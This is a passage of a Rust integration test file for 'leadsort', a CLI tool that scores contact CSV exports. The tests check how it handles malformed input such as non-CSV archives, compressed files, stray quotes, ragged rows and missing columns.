    assert_eq!(rejected[0].reason, "contains a NUL byte");
}

/// A real (tiny) XLSX-shaped ZIP, written by Python's zipfile, that is no workbook: its parts
/// are empty shells.
fn write_zip(path: &Path) {
    python3(&[
        "-c".as_ref(),
        "import sys, zipfile\n\
         with zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED) as z:\n\
         \x20   z.writestr('[Content_Types].xml', '<?xml version=\"1.0\"?><Types/>')\n\
         \x20   z.writestr('xl/workbook.xml', '<workbook/>')\n\
         \x20   z.writestr('xl/worksheets/sheet1.xml', '<worksheet><c>ann@acme.com</c></worksheet>')\n"
            .as_ref(),
        path.as_os_str(),
    ]);
}

/// Workbooks are read (see `workbook_input.rs`); a ZIP that is not one is still refused.
#[test]
fn a_zip_that_is_no_workbook_named_csv_exits_65_with_the_excel_hint() {
    let env = Env::standard();
    let before = previous_outputs(&env);
    write_zip(&env.path("export.csv"));
    assert!(
        std::fs::read(env.path("export.csv"))
            .unwrap()
            .starts_with(b"PK\x03\x04")
    );
    let out = run(&mut classify(&env, &["--split", "out", "export.csv"]));
    assert_error(
        &out,
        65,
        &[
            "export.csv looks like a ZIP file but not a workbook leadsort can read",
            "it is not CSV",
            "\"CSV UTF-8\"",
        ],
    );
    assert_unchanged(&env.path("out"), &before, "a ZIP file");
}

/// Old `.xls` workbooks are read (see `workbook_input.rs`); an OLE file that is not one is
/// still refused.
#[test]
fn an_old_xls_signature_that_is_no_workbook_exits_65_with_the_excel_hint() {
    let env = Env::standard();
    let before = previous_outputs(&env);
    let mut xls = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    xls.resize(512, 0);
    env.write("old.csv", &xls);
    let out = run(&mut classify(&env, &["--split", "out", "old.csv"]));
    assert_error(
        &out,
        65,
        &[
            "old.csv looks like an old Office file but not an Excel workbook (.xls)",
            "it is not CSV",
            "\"CSV UTF-8\"",
        ],
    );
    assert_unchanged(&env.path("out"), &before, "an OLE file");
}

#[test]
fn gzip_input_is_read_and_hashed_as_stored() {
    let env = Env::standard();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(CONTACTS.as_bytes()).unwrap();
    let gz = gz.finish().unwrap();
    // By its name, and given as .csv (the bytes decide).
    for name in ["contacts.csv.gz", "gzipped.csv"] {
        env.write(name, &gz);
        let dir = env.path(&format!("out-{name}"));
        std::fs::create_dir(&dir).unwrap();
        let out_dir = dir.file_name().unwrap().to_string_lossy().into_owned();
        assert_ok(&run(&mut classify(&env, &["--split", &out_dir, name])));
        assert_eq!(
            assert_each_row_once(&dir, &["1", "2", "3", "4", "5"], 5),
            routes(&["1", "2", "3", "4", "5"])
        );
        assert_eq!(
            json(&dir.join("summary.json"))["input_sha256"].as_str(),
            Some(python_sha256(&env.path(name)).as_str()),
            "the hash is of the file as stored"
        );
    }
}

/// Other compressions are named (their bytes are not text: they used to be called binary
/// files, or decoded as garbage), and none is written under a compressed name: plain text in
/// `out.jsonl.gz` (as CSV, the extension being `.gz`) would fool the loader reading it.
#[test]
fn other_compressions_are_named_and_compressed_output_names_refused() {
    let env = Env::standard();
    // `id,email\n1,a@x.com\n` as the tools write it.
    let files: [(&str, &[u8], &str); 3] = [
        (
            "c.csv.zst",
            b"\x28\xb5\x2f\xfd\x24\x13\x99\x00\x00\x69\x64\x2c\x65\x6d\x61\x69\x6c\x0a\x31\x2c\
              \x61\x40\x78\x2e\x63\x6f\x6d\x0a\x35\xbd\x9c\x1d",
            "zstd",
        ),
        (
            "c.csv.bz2",
            b"\x42\x5a\x68\x39\x31\x41\x59\x26\x53\x59\x98\xc2\xe6\x05\x00\x00\x06\x5d\x80\x00\
              \x10\x00\x05\x20\x00\x40\x00\x2e\x26\x80\x40\x20\x00\x31\x00\x00\x0a\x32\x7a\x4c\
              \x9a\x7e\xa9\xdb\x54\x2a\xe4\x4f\x9d\x27\x00\xf8\xbb\x92\x29\xc2\x84\x84\xc6\x17\
              \x30\x28",
            "bzip2",
        ),
        (
            "c.csv.xz",
            b"\xfd\x37\x7a\x58\x5a\x00\x00\x04\xe6\xd6\xb4\x46\x02\x00\x21\x01\x16\x00\x00\x00\
              \x74\x2f\xe5\xa3\x01\x00\x12\x69\x64\x2c\x65\x6d\x61\x69\x6c\x0a\x31\x2c\x61\x40\
              \x78\x2e\x63\x6f\x6d\x0a\x00\x00\x23\xcc\xe6\x7d\x35\xb0\x29\xa2\x00\x01\x2b\x13\
              \x9c\x09\x48\xd2\x1f\xb6\xf3\x7d\x01\x00\x00\x00\x00\x04\x59\x5a",
            "xz",
        ),
    ];
    for (name, bytes, format) in files {
        env.write(name, bytes);
        let out = run(&mut classify(&env, &[name]));
        assert_error(
            &out,
            65,
            &[&format!(
                "{name} is compressed with {format}, which leadsort does not read"
            )],
        );
    }
    for (args, says) in [
        (
            &["-o", "out.jsonl.gz", "contacts.csv"][..],
            "-o out.jsonl.gz: leadsort does not compress",
        ),
        (
            &["--rejected", "r.csv.zst", "-o", "o.csv", "contacts.csv"],
            "--rejected r.csv.zst:",
        ),
        (
            &["--summary", "s.json.gz", "contacts.csv"],
            "`| gzip > s.json.gz`",
        ),
    ] {
        let out = run(&mut classify(&env, args));
        assert_error(&out, 2, &[says]);
    }
    let out = run(env.cmd().args([
        "report",
        "--as-of",
        "2026-11-27",
        "-o",
        "r.txt.gz",
        "contacts.csv",
    ]));
    assert_error(&out, 2, &["-o r.txt.gz: leadsort does not compress"]);
    assert_eq!(
        env.files(),
        [
            "c.csv.bz2",
            "c.csv.xz",
            "c.csv.zst",
            "contacts.csv",
            "rules.toml"
        ]
    );
}

#[test]
fn min_contacts_refuses_a_short_export_and_replaces_nothing() {
    // An export cut exactly at a line end reads as a shorter, valid file: --min-contacts
    // is the night job's guard. 5 contacts here.
    let env = Env::standard();
    std::fs::create_dir(env.path("out")).unwrap();
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "out", "contacts.csv"],
    )));
    let before = snapshot(&env.path("out"));
    let out = run(&mut classify(
        &env,
        &["--min-contacts", "6", "--split", "out", "contacts.csv"],
    ));
    assert_error(
        &out,
        65,
        &["contacts.csv has 5 contacts, fewer than --min-contacts 6: no output was replaced"],
    );
    assert_unchanged(&env.path("out"), &before, "--min-contacts");
    let out = run(&mut classify(
        &env,
        &["--min-contacts", "6", "contacts.csv"],
    ));
    assert_error(
        &out,
        65,
        &["but the rows went to stdout as they were scored: discard them"],
    );
    assert_ok(&run(&mut classify(
        &env,
        &["--min-contacts", "5", "--split", "out", "contacts.csv"],
    )));
}

#[test]
fn two_exports_joined_have_the_second_header_rejected_not_scored() {
    // `cat a.csv b.csv` (the second with Excel's byte order mark), and two gzip files glued
    // together (read as one stream): the second header is among the rows. Long enough for
    // the parallel chunks to meet it mid-file.
    let env = Env::standard();
    std::fs::create_dir(env.path("out")).unwrap();
    let first = big_contacts(30_000);
    let second = CONTACTS;
    let joined = format!("{first}\u{feff}{second}");
    env.write("joined.csv", &joined);
    let gzip = |text: &str| {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gz.write_all(text.as_bytes()).unwrap();
        gz.finish().unwrap()
    };
    env.write("glued.csv.gz", [gzip(&first), gzip(second)].concat());
    let header_line = first.lines().count() as u64 + 1;
    for (file, threads) in [
        ("joined.csv", "1"),
        ("joined.csv", "2"),
        ("glued.csv.gz", "2"),
    ] {
        let out = run(&mut classify(
            &env,
            &["--threads", threads, "--split", "out", file],
        ));
        assert_ok(&out);
        let rejected = rejected_rows(&env.path("out/rejected.csv"));
        let again: Vec<&RejectedRow> = rejected
            .iter()
            .filter(|r| r.reason.starts_with("the header line again"))
            .collect();
        assert_eq!(again.len(), 1, "{file} {threads}: {rejected:?}");
        assert_eq!(again[0].line, header_line, "{file}");
        assert!(again[0].reason.contains("two exports joined"));
        // The second export's contacts are all there, as contacts.
        let summary = json(&env.path("out/summary.json"));
        let records = 30_000 + 1 + second.lines().count() as u64 - 1;
        assert_counts_add_up(&summary, records);
    }
    // Another tool's export writes the header in capitals, or pads a name: still a header.
    let (head, body) = second.split_once('\n').unwrap();
    let shouting = format!(
        "{first}{}\n{body}",
        head.to_uppercase().replacen(',', " ,", 1)
    );
    env.write("shouting.csv", &shouting);
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "out", "shouting.csv"],
    )));
    let rejected = rejected_rows(&env.path("out/rejected.csv"));
    assert!(
        rejected
            .iter()
            .any(|r| r.reason.starts_with("the header line again")),
        "{rejected:?}"
    );
}

#[test]
fn a_gzip_cut_off_or_damaged_exits_65_naming_it() {
    // A half-uploaded export is bad input (65), not a failing disk (74): a job can retry it.
    // The long one is cut where the work loop meets it, the short one in the first read.
    let env = Env::standard();
    let gzip = |text: &str| {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(text.as_bytes()).unwrap();
        gz.finish().unwrap()
    };
    let long = gzip(&big_contacts(40_000));
    env.write("cut.csv.gz", &long[..long.len() / 2]);
    let short = gzip(CONTACTS);
    env.write("short.csv.gz", &short[..short.len() - 12]);
    env.write("nul.csv.gz", [short.as_slice(), &[0u8; 100]].concat());
    env.write("out.csv", "old\n");
    for (file, threads) in [("cut", "1"), ("cut", "2"), ("short", "2"), ("nul", "2")] {
        let name = format!("{file}.csv.gz");
        let out = run(&mut classify(
            &env,
            &["--threads", threads, "-o", "out.csv", &name],
        ));
        // Zeros after whole gzip data: padding, or a glued file never written. Said so,
        // not called cut off (gzip -d reads it).
        let says = match file {
            "nul" => "nul.csv.gz: the gzip data is whole, but zero bytes follow it".to_string(),
            _ => format!("{name}: the gzip data is cut off or damaged"),
        };
        assert_error(&out, 65, &[&says]);
        assert_eq!(env.read("out.csv"), "old\n");
        assert_no_temp_files(env.root());
    }
}

// ---- delimiters -------------------------------------------------------------------------

#[test]
fn semicolon_tab_and_pipe_files_are_sniffed_from_their_header() {
    for name in ["semicolon.csv", "tab.csv", "pipe.csv"] {
        let env = with_fixture(name);
        let out = run(&mut classify(&env, &["--split", "out", name]));
        assert_ok(&out);
        assert_eq!(stderr(&out), "", "{name}");
        assert_eq!(
            assert_each_row_once(&env.path("out"), &["1", "2", "3", "4", "5"], 5),
            routes(&["1", "2", "3", "4", "5"]),
            "{name}"
        );
    }
    // A comma inside a cell of a `;` file is data.
    let env = with_fixture("semicolon.csv");
    let stdout = assert_ok(&run(&mut classify(&env, &["semicolon.csv"])));
    assert_eq!(util::column(&stdout, "Job Title")[0], "VP, Sales");
}

#[test]
fn a_semicolon_file_after_a_blank_line_is_sniffed_too() {
    let env = Env::standard();
    env.write(
        "semi.csv",
        [&b"\r\n"[..], &fixture("semicolon.csv")[..]].concat(),
    );
    let out = run(&mut classify(&env, &["semi.csv"]));
    let stdout = assert_ok(&out);
    assert_eq!(
        util::column(&stdout, "queue"),
        ["sales", "marketing", "suppressed", "marketing", "sales"]
    );
}

#[test]
fn a_semicolon_file_read_with_a_comma_suggests_the_delimiter() {
    // RELIABILITY.md: one header field containing `;` is detected, suggesting --delimiter ';'.
    let env = with_fixture("semicolon.csv");
    let before = previous_outputs(&env);
    let out = run(&mut classify(
        &env,
        &["-d", ",", "--split", "out", "semicolon.csv"],
    ));
    assert_error(&out, 65, &["semicolon.csv", "--delimiter ';'"]);
    assert_unchanged(&env.path("out"), &before, "a ;-file read with ,");
}

#[test]
fn an_excel_sep_line_is_honoured_and_counted_in_line_numbers() {
    let env = with_fixture("sep_semicolon.csv");
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "out", "sep_semicolon.csv"],
    )));
    let mut want = routes(&["1", "2", "3", "4", "5"]);
    want.insert("6".into(), "rejected.csv".into());
    let dir = env.path("out");
    assert_eq!(
        assert_each_row_once(&dir, &["1", "2", "3", "4", "5", "6"], 6),
        want
    );
    // Line 1 is `sep=;`, line 2 the header: record 6 is on line 8.
    let rejected = rejected_rows(&dir.join("rejected.csv"));
    assert_eq!(
        rejected,
        [RejectedRow {
            record: 6,
            line: 8,
            reason: "expected 7 fields, found 3".into(),
            raw: b"6;fay@acme.com;Director".to_vec(),
        }]
    );
}

// ---- ragged rows ------------------------------------------------------------------------

#[test]
fn ragged_rows_are_rejected_with_record_and_line_and_strict_exits_65() {
    let env = with_fixture("ragged.csv");
    let out = run(&mut classify(&env, &["--split", "out", "ragged.csv"]));
    assert_ok(&out);
    assert!(
        stderr(&out).contains("2 of 8 rows in ragged.csv could not be read"),
        "{}",
        stderr(&out)
    );
    let dir = env.path("out");
    let mut want = routes(&["1", "2", "3", "4", "5"]);
    want.insert("6".into(), "rejected.csv".into());
    want.insert("7".into(), "rejected.csv".into());
    want.insert("8".into(), "marketing.csv".into());
    let ids = ["1", "2", "3", "4", "5", "6", "7", "8"];
    assert_eq!(assert_each_row_once(&dir, &ids, 8), want);
    let rejected = rejected_rows(&dir.join("rejected.csv"));
    let got: Vec<(u64, u64, &str)> = rejected
        .iter()
        .map(|r| (r.record, r.line, r.reason.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            (6, 7, "expected 7 fields, found 3"),
            (7, 8, "expected 7 fields, found 8")
        ]
    );

    let before = snapshot(&dir);
    let out = run(&mut classify(
        &env,
        &["--strict", "--split", "out", "ragged.csv"],
    ));
    assert_error(
        &out,
        65,
        &[
            "ragged.csv: record 6 (line 7): expected 7 fields, found 3",
            "--strict",
            "no output file was replaced",
        ],
    );
    assert_unchanged(&dir, &before, "--strict");
}

// ---- unterminated quotes ----------------------------------------------------------------

#[test]
fn text_after_a_closing_quote_rejects_the_row_and_the_last_line_cut_in_a_quote_too() {
    let env = Env::standard();
    env.write(
        "quotes.csv",
        format!(
            "{HEADER}\n1,ann@acme.com,VP Sales,\"5\"00,yes,no,\n\
             2,\"bob\"@gmail.com,Engineer,10,no,no,\n\
             3,cy@initech.io,\"Director \"\"of\"\" IT\",250,no,yes,\n\
             4,di@globex.com,\"Chief of Staff\",\"1,200\",true,,no response\n\
             5,ed@acme.com,VP,\"20"
        ),
    );
    let dir = env.path("out");
    std::fs::create_dir(&dir).unwrap();
    let out = run(&mut classify(&env, &["--split", "out", "quotes.csv"]));
    assert_ok(&out);
    let routed = assert_each_row_once(&dir, &["1", "2", "3", "4", "5"], 5);
    for id in ["1", "2", "5"] {
        assert_eq!(routed[id], "rejected.csv", "{id}");
    }
    assert_ne!(routed["3"], "rejected.csv");
    assert_ne!(routed["4"], "rejected.csv");
    let rejected = rejected_rows(&dir.join("rejected.csv"));
    assert!(
        rejected[0].reason.starts_with("text after a closing quote"),
        "{rejected:?}"
    );
    assert!(
        rejected[1].reason.starts_with("text after a closing quote"),
        "{rejected:?}"
    );
    assert!(rejected[2].reason.contains("never closed"), "{rejected:?}");
}

#[test]
fn unterminated_quote_at_the_end_rejects_its_line_and_recovers_the_rows_after_it() {
    let env = with_fixture("unterminated_quote_end.csv");
    let out = run(&mut classify(
        &env,
        &["--split", "out", "unterminated_quote_end.csv"],
    ));
    assert_ok(&out);
    let dir = env.path("out");
    let mut want = routes(&["1", "3", "4", "5"]);
    want.insert("2".into(), "rejected.csv".into());
    assert_eq!(
        assert_each_row_once(&dir, &["1", "2", "3", "4", "5"], 5),
        want
    );
    let rejected = rejected_rows(&dir.join("rejected.csv"));
    assert_eq!(rejected.len(), 1);
    assert_eq!((rejected[0].record, rejected[0].line), (2, 3));
    assert!(rejected[0].reason.contains("never closed"), "{rejected:?}");
    assert_eq!(rejected[0].raw, b"2,bob@gmail.com,\"Engineer,10,no,no,");
    // The rows after it are whole rows again, scored as usual.
    let suppressed = std::fs::read_to_string(dir.join("suppressed.csv")).unwrap();
    assert_eq!(util::column(&suppressed, "email"), ["cy@initech.io"]);
    assert_eq!(util::column(&suppressed, "score"), ["30"]);

    let before = snapshot(&dir);
    let out = run(&mut classify(
        &env,
        &["--strict", "--split", "out", "unterminated_quote_end.csv"],
    ));
    assert_error(&out, 65, &["record 2 (line 3)", "never closed"]);
    assert_unchanged(&dir, &before, "--strict");
}

#[test]
fn unterminated_quote_in_the_middle_rejects_the_merged_record_saying_it_spans_2_lines() {
    let env = with_fixture("unterminated_quote_middle.csv");
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "out", "unterminated_quote_middle.csv"],
    )));
    let dir = env.path("out");
    let mut want = routes(&["1", "4", "5"]);
    want.insert("2".into(), "rejected.csv".into());
    want.insert("3".into(), "rejected.csv".into());
    // Rows 2 and 3 are one record (the csv format says so): 4 records from 5 lines.
    assert_eq!(
        assert_each_row_once(&dir, &["1", "2", "3", "4", "5"], 4),
        want
    );
    let rejected = rejected_rows(&dir.join("rejected.csv"));
    assert_eq!(
        rejected,
        [RejectedRow {
            record: 2,
            line: 3,
            reason: "expected 7 fields, found 9; the record spans 2 lines: a stray quote may \
                     have merged rows"
                .into(),
            raw: b"2,bob@gmail.com,\"Engineer,10,no,no,\n3\",cy@initech.io,Director,250,no,yes,"
                .to_vec(),
        }]
    );

    let before = snapshot(&dir);
    let out = run(&mut classify(
        &env,
        &[
            "--strict",
            "--split",
            "out",
            "unterminated_quote_middle.csv",
        ],
    ));
    assert_error(&out, 65, &["record 2 (line 3)", "the record spans 2 lines"]);
    assert_unchanged(&dir, &before, "--strict");
}

#[test]
fn a_line_break_in_the_id_column_is_rejected_as_merged_rows() {
    let env = with_fixture("stray_quote_id.csv");
    env.write("rules.toml", format!("{RULES}\n[input]\nid = \"id\"\n"));
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "out", "stray_quote_id.csv"],
    )));
    let dir = env.path("out");
    let mut want = routes(&["1", "4", "5"]);
    want.insert("2".into(), "rejected.csv".into());
    want.insert("3".into(), "rejected.csv".into());
    assert_eq!(
        assert_each_row_once(&dir, &["1", "2", "3", "4", "5"], 4),
        want
    );
    let rejected = rejected_rows(&dir.join("rejected.csv"));
    assert_eq!(rejected.len(), 1);
    assert_eq!((rejected[0].record, rejected[0].line), (2, 3));
    assert_eq!(
        rejected[0].reason,
        "column 1 (id) holds a line break: a stray quote may have merged rows"
    );
}

#[test]
fn a_line_break_in_an_email_column_is_rejected_as_merged_rows() {
    let env = with_fixture("stray_quote_email.csv");
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "out", "stray_quote_email.csv"],
    )));
    let dir = env.path("out");
    let mut want = routes(&["1", "4", "5"]);
    want.insert("2".into(), "rejected.csv".into());
    want.insert("3".into(), "rejected.csv".into());
    assert_eq!(
        assert_each_row_once(&dir, &["1", "2", "3", "4", "5"], 4),
        want
    );
    let rejected = rejected_rows(&dir.join("rejected.csv"));
    assert_eq!(rejected.len(), 1);
    assert_eq!(
        rejected[0].reason,
        "column 2 (email) holds a line break: a stray quote may have merged rows"
    );
}

#[test]
fn a_stray_quote_that_merges_rows_into_a_record_of_the_right_width_is_not_silent() {
    // Row 2 opens a quote that the `"1,200"` of row 4 closes: lines 3-5 parse as one record of
    // exactly 7 fields, with two line breaks inside `Job Title`. RELIABILITY.md: never silently
    // merged ("row count sanity"): rows 3 and 4 must not vanish into contact 2's title.
    let env = with_fixture("stray_quote_merges_rows.csv");
    let out = run(&mut classify(
        &env,
        &["--split", "out", "stray_quote_merges_rows.csv"],
    ));
    assert_ok(&out);
    let dir = env.path("out");
    let routed = assert_ids_once(&dir, &["1", "2", "3", "4", "5"]);
    assert_eq!(routed["1"], "sales.csv");
    assert_eq!(routed["5"], "sales.csv");
    let s = json(&dir.join("summary.json"));
    assert_counts_add_up(&s, s["rows"].as_u64().unwrap());
    assert!(s["rejected"].as_u64().unwrap() > 0, "{s:#}");
    assert!(
        !stderr(&out).is_empty(),
        "a warning says rows were rejected"
    );
}

#[test]
fn an_unterminated_quote_before_megabytes_of_rows_loses_no_row() {
    // The quote opened in record 2 is never closed and the rest of the file (about 2 MB) is
    // larger than --max-record-size. Acceptable: exit 65 with nothing replaced, or every row
    // in exactly one output (the unclosed line rejected, the rows after it recovered).
    let env = Env::standard();
    let rows = 40_000;
    let mut csv = big_contacts(rows - 1);
    let insert_at = csv.find("\n2,").unwrap() + 1;
    csv.insert_str(insert_at, "0,zero@acme.com,\"Engineer,10,no,no,\n");
    env.write("quote.csv", &csv);
    let before = previous_outputs(&env);
    let out = run(&mut classify(&env, &["--split", "out", "quote.csv"]));
    assert_no_panic(&out);
    if out.status.code() == Some(65) {
        assert_error(&out, 65, &["quote.csv"]);
        assert_unchanged(&env.path("out"), &before, "refused");
        return;
    }
    assert_ok(&out);
    let ids: Vec<String> = (0..rows).map(|i| i.to_string()).collect();
    let ids: Vec<&str> = ids.iter().map(String::as_str).collect();
    let routed = assert_each_row_once(&env.path("out"), &ids, rows as u64);
    assert_eq!(routed["0"], "rejected.csv");
}

#[test]
fn a_stray_quote_closed_megabytes_later_stops_the_run_instead_of_losing_the_rows_between() {
    // The quote opened in record 2 closes at a quoted note 2 MB on: the record between is
    // over --max-record-size, so the rows it swallowed were not kept. They were lost (one
    // rejected row for 40,000, exit 0); now the run stops with nothing replaced, and with
    // the limit raised above it every row lands in exactly one output.
    let env = Env::standard();
    let rows = 40_000;
    let mut csv = big_contacts(rows - 1);
    let insert_at = csv.find("\n2,").unwrap() + 1;
    csv.insert_str(insert_at, "0,zero@acme.com,\"Engineer,10,no,no,\n");
    csv.push_str("99999,n@acme.com,\"Called, left msg\",5,no,no,\n");
    env.write("quote.csv", &csv);
    let before = previous_outputs(&env);
    let out = run(&mut classify(&env, &["--split", "out", "quote.csv"]));
    assert_error(
        &out,
        65,
        &["record 2 (line 3): a quote opened here is never closed, or closed only after the rows"],
    );
    assert_unchanged(&env.path("out"), &before, "refused");
    let out = run(&mut classify(
        &env,
        &["--max-record-size", "8M", "--split", "out", "quote.csv"],
    ));
    assert_ok(&out);
    let ids: Vec<String> = (0..rows)
        .map(|i| i.to_string())
        .chain(["99999".into()])
        .collect();
    let ids: Vec<&str> = ids.iter().map(String::as_str).collect();
    let routed = assert_each_row_once(&env.path("out"), &ids, rows as u64 + 1);
    assert_eq!(routed["0"], "rejected.csv");
    // A genuine note over the limit, some of its lines a row's worth of commas: the record
    // keeps the header's width and most lines are prose, so it is one long cell, rejected as
    // before; the run goes on.
    let note: Vec<String> = (0..60_000)
        .map(|i| match i % 10 {
            0 => format!("call {i}: fine,pricing,demo,next,week,follow"),
            _ => format!("call {i}: went fine, asked about pricing"),
        })
        .collect();
    env.write(
        "note.csv",
        format!(
            "{CONTACTS}6,f@acme.com,VP,5,no,no,\"{}\"\n7,g@acme.com,VP,5,no,no,\n",
            note.join("\n")
        ),
    );
    let out = run(&mut classify(&env, &["--split", "out", "note.csv"]));
    assert_ok(&out);
    let summary = json(&env.path("out/summary.json"));
    assert_eq!(
        (summary["contacts"].as_u64(), summary["rejected"].as_u64()),
        (Some(6), Some(1))
    );
    let rejected = rejected_rows(&env.path("out/rejected.csv"));
    assert_eq!(rejected.len(), 1);
    assert_eq!(rejected[0].record, 6);
    // A stray quote in the last column closed by a later note's `27"`: the merged record has
    // the header's width by chance, but its lines are rows. The run stops; nothing is lost.
    let mut csv = big_contacts(40_000);
    let at = csv.find("\n2,").unwrap() + 1;
    csv.insert_str(
        at,
        "0,zero@acme.com,Engineer,10,no,no,\"Met at the fair, wants more\n",
    );
    csv.push_str("99999,n@acme.com,VP,5,no,no,Wants the 27\" screen\n");
    env.write("inch.csv", &csv);
    let out = run(&mut classify(&env, &["--split", "out", "inch.csv"]));
    assert_error(&out, 65, &["record 2 (line 3): a quote opened here"]);
    // The same within the limit: the record is quoted by the book at the header's width, yet
    // its lines are rows. They are read again; only the stray line is rejected.
    let mut csv = big_contacts(200);
    let at = csv.find("\n2,").unwrap() + 1;
    csv.insert_str(
        at,
        "0,zero@acme.com,Engineer,10,no,no,\"Met at the fair, wants more\n",
    );
    csv.push_str("99999,n@acme.com,VP,5,no,no,Wants a 27\"\n");
    env.write("inch-small.csv", &csv);
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "out", "inch-small.csv"],
    )));
    let ids: Vec<String> = (0..=200)
        .map(|i| i.to_string())
        .chain(["99999".into()])
        .collect();
    let ids: Vec<&str> = ids.iter().map(String::as_str).collect();
    let routed = assert_each_row_once(&env.path("out"), &ids, 202);
    assert_eq!(routed["0"], "rejected.csv");
}

// ---- empty, header only, duplicate and missing columns ------------------------------------

#[test]
fn empty_and_blank_only_files_exit_65_and_leave_outputs_untouched() {
    let env = with_fixture("empty.csv");
    env.write("blank_lines_only.csv", fixture("blank_lines_only.csv"));
    env.write("bom_only.csv", b"\xef\xbb\xbf");
    let before = previous_outputs(&env);
    for name in ["empty.csv", "blank_lines_only.csv", "bom_only.csv"] {
        let out = run(&mut classify(&env, &["--split", "out", name]));
        assert_error(
            &out,
            65,
            &[&format!(
                "{name} is empty: expected a header line with column names"
            )],
        );
        assert_unchanged(&env.path("out"), &before, name);
    }
}

#[test]
fn header_only_gives_header_only_queue_files_and_a_warning() {
    let env = with_fixture("header_only.csv");
    let out = run(&mut classify(&env, &["--split", "out", "header_only.csv"]));
    assert_ok(&out);
    assert_eq!(
        stderr(&out),
        "leadsort: warning: header_only.csv has a header but no contacts\n"
    );
    let dir = env.path("out");
    assert_eq!(names(&dir), SPLIT_FILES);
    for q in ["sales.csv", "marketing.csv", "suppressed.csv"] {
        assert_eq!(
            std::fs::read_to_string(dir.join(q)).unwrap(),
            format!("{OUT_HEADER}\n")
        );
    }
    assert_eq!(
        std::fs::read_to_string(dir.join("rejected.csv")).unwrap(),
        "record,line,reason,row\n"
    );
    let s = json(&dir.join("summary.json"));
    assert_counts_add_up(&s, 0);
    assert_eq!(
        s["warnings"],
        serde_json::json!(["header_only.csv has a header but no contacts"])
    );
}

#[test]
fn duplicate_header_used_by_a_rule_exits_65_before_any_output_is_touched() {
    let env = with_fixture("duplicate_header_used.csv");
    let before = previous_outputs(&env);
    let out = run(&mut classify(
        &env,
        &["--split", "out", "duplicate_header_used.csv"],
    ));
    assert_error(
        &out,
        65,
        &[
            "field `email`",
            "rules.toml:34:18",
            "appears more than once in duplicate_header_used.csv's header",
        ],
    );
    assert_unchanged(&env.path("out"), &before, "a duplicate header");
}

#[test]
fn duplicate_header_not_used_by_the_rules_warns_and_reads_every_row() {
    let env = with_fixture("duplicate_header_unused.csv");
    let out = run(&mut classify(
        &env,
        &["--split", "out", "duplicate_header_unused.csv"],
    ));
    assert_ok(&out);
    assert_eq!(
        stderr(&out),
        "leadsort: warning: the header repeats `notes` (the rules do not use it)\n"
    );
    assert_eq!(
        assert_each_row_once(&env.path("out"), &["1", "2", "3", "4", "5"], 5),
        routes(&["1", "2", "3", "4", "5"])
    );
}

#[test]
fn missing_column_exits_65_before_any_output_is_touched() {
    let env = with_fixture("missing_column.csv");
    let before = previous_outputs(&env);
    let out = run(&mut classify(
        &env,
        &["--split", "out", "missing_column.csv"],
    ));
    assert_error(
        &out,
        65,
        &[
            "missing_column.csv has no column for field `title` (used at rules.toml:18:18)",
            "closest header: `Job Titel`",
            "headers in missing_column.csv: `id`, `email`, `Job Titel`",
        ],
    );
    assert_unchanged(&env.path("out"), &before, "a missing column");

    // Into a fresh folder: no output file appears (only the run lock may).
    std::fs::create_dir(env.path("fresh")).unwrap();
    let out = run(&mut classify(
        &env,
        &["--split", "fresh", "missing_column.csv"],
    ));
    assert_error(&out, 65, &["field `title`"]);
    let left: Vec<String> = names(&env.path("fresh"))
        .into_iter()
        .filter(|n| n != ".leadsort.lock")
        .collect();
    assert_eq!(left, Vec::<String>::new());
}

// ---- blank lines, CRLF, bare CR -----------------------------------------------------------

#[test]
fn blank_lines_crlf_and_bare_cr_are_accepted_with_physical_line_numbers() {
    let env = with_fixture("blank_lines_crlf_cr.csv");
    let out = run(&mut classify(
        &env,
        &["--split", "out", "blank_lines_crlf_cr.csv"],
    ));
    assert_ok(&out);
    let dir = env.path("out");
    let mut want = routes(&["1", "2", "3", "4", "5"]);
    want.insert("6".into(), "rejected.csv".into());
    assert_eq!(
        assert_each_row_once(&dir, &["1", "2", "3", "4", "5", "6"], 6),
        want
    );
    // Lines: 1 header, 2 blank, 3 row 1, 4 blank, 5-6 rows 2-3 (CR), 7 blank (CR), 8 row 4,
    // 9 the short row (record 5), 10 row 5 without a final line break.
    let rejected = rejected_rows(&dir.join("rejected.csv"));
    assert_eq!(
        rejected,
        [RejectedRow {
            record: 5,
            line: 9,
            reason: "expected 7 fields, found 2".into(),
            raw: b"6,short".to_vec(),
        }]
    );
    let sales = std::fs::read_to_string(dir.join("sales.csv")).unwrap();
    assert_eq!(
        util::column(&sales, "sales_status"),
        ["", ""],
        "no stray CR in cells"
    );
}

// ---- huge fields ------------------------------------------------------------------------

/// Header, contact 1, contact 2 with a `field_len`-byte title, contact 3.
fn with_huge_field(field_len: usize) -> Vec<u8> {
    let mut csv =
        format!("{HEADER}\n1,ann@acme.com,VP Sales,500,yes,no,\n2,bob@gmail.com,\"").into_bytes();
    csv.resize(csv.len() + field_len, b'x');
    csv.extend_from_slice(b"\",10,no,no,\n3,cy@initech.io,Director,250,no,yes,\n");
    csv
}

/// Peak resident memory in KiB of a run, with GNU time (`None` if it is not available).
fn peak_kib(env: &Env, args: &[&str]) -> Option<u64> {
    if !Path::new("/usr/bin/time").exists() {
        return None;
    }
    let child = std::process::Command::new("/usr/bin/time")
        .args(["-f", "peak-kib=%M"])
        .arg(assert_cmd::cargo::cargo_bin!("leadsort"))
        .args(["classify", "--as-of", "2026-11-27"])
        .args(args)
        .current_dir(env.root())
        .env_remove("LEADSORT_FAULT")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .ok()?;
    let out = wait_within(child, "/usr/bin/time leadsort");
    let err = String::from_utf8_lossy(&out.stderr);
    err.lines()
        .find_map(|l| l.strip_prefix("peak-kib="))
